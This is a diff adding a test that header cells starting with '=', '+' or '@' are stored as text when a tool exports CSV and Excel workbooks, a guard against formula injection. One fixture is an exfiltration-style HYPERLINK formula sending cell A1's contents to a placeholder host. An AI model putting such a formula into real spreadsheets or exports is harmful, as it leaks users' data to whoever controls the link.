@@ -156,6 +156,13 @@ def test_cells_that_start_like_formulas_are_text_in_csv_and_workbook(tmp_path):
 
     sheet = load_workbook(tmp_path / "t.xlsx")["t"]
     assert sheet["A2"].value.startswith("=HYPERLINK") and sheet["A2"].data_type == "s"
+    # issue 35: header cells too (a corpus column, a case label heading a similarity sheet)
+    headed = pd.DataFrame({'=HYPERLINK("http://example.invalid/?"&A1,"点此")': [1], "=1+1": [2], "@区": [3]})
+    write_workbook([("h", tmp_path / "h.csv", "=2+2", headed)], tmp_path / "h.xlsx")
+    book = load_workbook(tmp_path / "h.xlsx")
+    cells = [*book["h"][1], *book["contents"][2]]
+    formulas = [c.coordinate for c in cells if isinstance(c.value, str) and c.value[:1] in "=+@" and c.data_type != "s"]
+    assert not formulas and book["h"]["B1"].value == "=1+1"
 
 
 # 20. A pattern that never finishes
